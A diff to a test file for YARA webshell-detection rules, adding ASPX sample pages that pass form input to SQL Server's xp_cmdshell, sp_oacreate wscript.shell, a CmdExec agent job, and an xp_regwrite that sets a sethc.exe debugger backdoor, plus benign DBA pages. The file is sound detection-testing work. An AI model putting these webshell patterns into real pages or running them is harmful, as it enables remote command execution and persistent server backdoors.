@@ -13,11 +13,15 @@ borrowing one phrase for its own message, a help page quoting the stock page). A
 ASPXSpy's "IIS Spy") that nothing of ours saw when it stands alone in a page, probed after the first-sight run:
 reading the passwords IIS stores for anonymous access, virtual directories and application pool identities
 (metabase, Microsoft.Web.Administration, appcmd); its ordinary neighbours are a site list, provisioning pages
-that set those identities and a help page quoting the command. A last group keeps found the shapes of this
-collection that one check alone found, and TwoFace's upload of base64 request text to a request-named file in
-%TEMP% through a FileStream (found since A3's 5d754fc, written on this collection's request). All pages were
-written for these tests: nothing is compiled or run, commands and keys are placeholders, and none is a copy of a
-real shell.
+that set those identities and a help page quoting the command. A third rule, ``data/rules/sql_os_commands.yar``,
+carries the database pages of the same file managers (sunue, and the JK1986 backdoor read beside it): T-SQL that
+runs or plants an operating-system command (EXEC xp_cmdshell, sp_oacreate 'wscript.shell', a CmdExec job step,
+an Image File Execution Options debugger), which nothing of ours found as a page of its own; its neighbours are
+DBA pages that read or switch off the xp_cmdshell setting, a T-SQL job step and a help page. A last group keeps
+found the shapes of this collection that one check alone found, and TwoFace's upload of base64 request text to a
+request-named file in %TEMP% through a FileStream (found since A3's 5d754fc, written on this collection's
+request). All pages were written for these tests: nothing is compiled or run, commands and keys are
+placeholders, and none is a copy of a real shell.
 """
 
 from __future__ import annotations
@@ -281,9 +285,110 @@ IIS_CREDENTIALS_ORDINARY: list[Page] = [
     ),
 ]
 
+# --- pages making SQL Server run or plant a command (sunue's and JK1986's database pages, on their own) ---
+SQL_FORM = (
+    '<form runat="server"><asp:TextBox ID="Login" runat="server" /><asp:TextBox ID="Secret" runat="server" />'
+    '<asp:TextBox ID="Line" runat="server" /><asp:Button ID="Go" runat="server" OnClick="Go_Click" Text="Go" />'
+    "</form>\n"
+)
+SQL_OS: list[Page] = [
+    (
+        "cs-xp-cmdshell-from-textbox",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "protected void Go_Click(object s, EventArgs e) {\n"
+        '  var conn = new SqlConnection("server=.;User ID=" + Login.Text + ";Password=" + Secret.Text); conn.Open();\n'
+        '  var r = new SqlCommand("exec master..xp_cmdshell \'" + Line.Text + "\'", conn).ExecuteReader();\n'
+        '  while (r.Read()) Response.Write(r.GetValue(0) + "\\n");\n}\n</script>\n' + SQL_FORM,
+    ),
+    (
+        "vb-xp-cmdshell-oledb-request",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<%\n'
+        'Dim cn As New System.Data.OleDb.OleDbConnection("Provider=SQLOLEDB;Data Source=.;User ID=placeholder;Password=placeholder")\n'
+        "cn.Open()\n"
+        'Dim c As New System.Data.OleDb.OleDbCommand("EXEC xp_cmdshell \'" & Request.Form("q") & "\'", cn)\n'
+        "c.ExecuteNonQuery()\n%>\n",
+    ),
+    (
+        "cs-sp-oacreate-wscript-run",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "protected void Go_Click(object s, EventArgs e) {\n"
+        '  var conn = new SqlConnection("server=.;User ID=" + Login.Text + ";Password=" + Secret.Text); conn.Open();\n'
+        "  string q = \"declare @o int exec sp_oacreate 'wscript.shell',@o out \" +\n"
+        "    \"exec sp_oamethod @o,'run',NULL,'cmd /c \" + Line.Text + \"',0,true\";\n"
+        "  new SqlCommand(q, conn).ExecuteNonQuery();\n}\n</script>\n" + SQL_FORM,
+    ),
+    (
+        "cs-ifeo-sethc-debugger-via-xp-regwrite",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "protected void Go_Click(object s, EventArgs e) {\n"
+        '  var conn = new SqlConnection("server=.;User ID=" + Login.Text + ";Password=" + Secret.Text); conn.Open();\n'
+        "  var c = conn.CreateCommand();\n"
+        "  c.CommandText = \"exec master.dbo.xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\\\Microsoft\\\\Windows NT\\\\\"\n"
+        "    + \"CurrentVersion\\\\Image File Execution Options\\\\sethc.exe','debugger','REG_SZ','placeholder.exe'\";\n"
+        "  c.ExecuteNonQuery();\n}\n</script>\n" + SQL_FORM,
+    ),
+    (
+        "cs-agent-cmdexec-jobstep",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "protected void Go_Click(object s, EventArgs e) {\n"
+        '  var conn = new SqlConnection("server=.;database=msdb;User ID=" + Login.Text + ";Password=" + Secret.Text);\n'
+        "  conn.Open();\n"
+        "  new SqlCommand(\"EXEC sp_add_job @job_name='j1'; EXEC sp_add_jobstep @job_name='j1', @step_name='s', @subsystem='CmdExec', @command='\"\n"
+        "    + Line.Text.Replace(\"'\", \"''\") + \"'; EXEC sp_add_jobserver @job_name='j1'; EXEC sp_start_job @job_name='j1'\", conn).ExecuteNonQuery();\n"
+        "}\n</script>\n" + SQL_FORM,
+    ),
+]
+
+SQL_OS_ORDINARY: list[Page] = [
+    (
+        "dba-page-reads-xp-cmdshell-setting",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["dba"].ConnectionString)) {\n'
+        "    conn.Open();\n"
+        "    var v = new SqlCommand(\"SELECT value_in_use FROM sys.configurations WHERE name = 'xp_cmdshell'\", conn).ExecuteScalar();\n"
+        '    State.Text = Convert.ToInt32(v) == 1 ? "xp_cmdshell is ON - switch it off" : "xp_cmdshell is off";\n  }\n}\n'
+        '</script>\n<html><body><asp:Label ID="State" runat="server" /></body></html>\n',
+    ),
+    (
+        "dba-page-switches-xp-cmdshell-off",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "protected void Off_Click(object s, EventArgs e) {\n"
+        '  using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["dba"].ConnectionString)) {\n'
+        "    conn.Open();\n"
+        "    new SqlCommand(\"EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;\", conn).ExecuteNonQuery();\n"
+        "  }\n}\n</script>\n",
+    ),
+    (
+        "maintenance-job-with-tsql-step",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
+        "protected void Schedule_Click(object s, EventArgs e) {\n"
+        '  using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["msdb"].ConnectionString)) {\n'
+        "    conn.Open();\n"
+        "    new SqlCommand(\"EXEC sp_add_jobstep @job_name='nightly', @step_name='reindex', @subsystem='TSQL', @command='EXEC dbo.Reindex'\", conn).ExecuteNonQuery();\n"
+        "  }\n}\n</script>\n",
+    ),
+    (
+        "help-page-quotes-xp-cmdshell",
+        ".aspx",
+        '<%@ Page Language="C#" Title="Hardening SQL Server" %>\n<html><body>\n'
+        "<p>Attackers with sa rights run <code>EXEC master..xp_cmdshell 'whoami'</code> through new SqlCommand(...)"
+        " .ExecuteNonQuery(); keep it disabled.</p>\n</body></html>\n",
+    ),
+]
+
 CASES = (
     ("EXT_WEBSHELL_Decoy_Error_Page_With_Command", DECOYS, DECOY_ORDINARY),
     ("EXT_WEBSHELL_IIS_Stored_Credential_Dump", IIS_CREDENTIALS, IIS_CREDENTIALS_ORDINARY),
+    ("EXT_WEBSHELL_SQL_Server_OS_Command", SQL_OS, SQL_OS_ORDINARY),
 )
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(
